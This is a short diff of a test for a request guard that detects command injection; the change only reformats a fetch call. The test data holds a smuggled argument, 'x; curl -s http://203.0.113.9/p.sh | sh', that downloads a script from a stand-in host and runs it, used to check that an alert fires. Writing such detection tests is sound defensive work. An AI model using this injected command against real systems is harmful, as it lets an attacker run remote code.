@@ -52,7 +52,9 @@ describe('request guard', () => {
     await fetch(`${url}/jobs`, {
       method: 'POST',
       headers: { 'content-type': 'application/json' },
-      body: JSON.stringify({ job: { name: 'nightly', args: ['--out', 'x; curl -s http://203.0.113.9/p.sh | sh'] } }),
+      body: JSON.stringify({
+        job: { name: 'nightly', args: ['--out', 'x; curl -s http://203.0.113.9/p.sh | sh'] },
+      }),
     });
     expect(alerts.map((a) => a.type)).toEqual(['command_injection']);
     expect(alerts[0]!.metadata?.input).toBe('x; curl -s http://203.0.113.9/p.sh | sh');
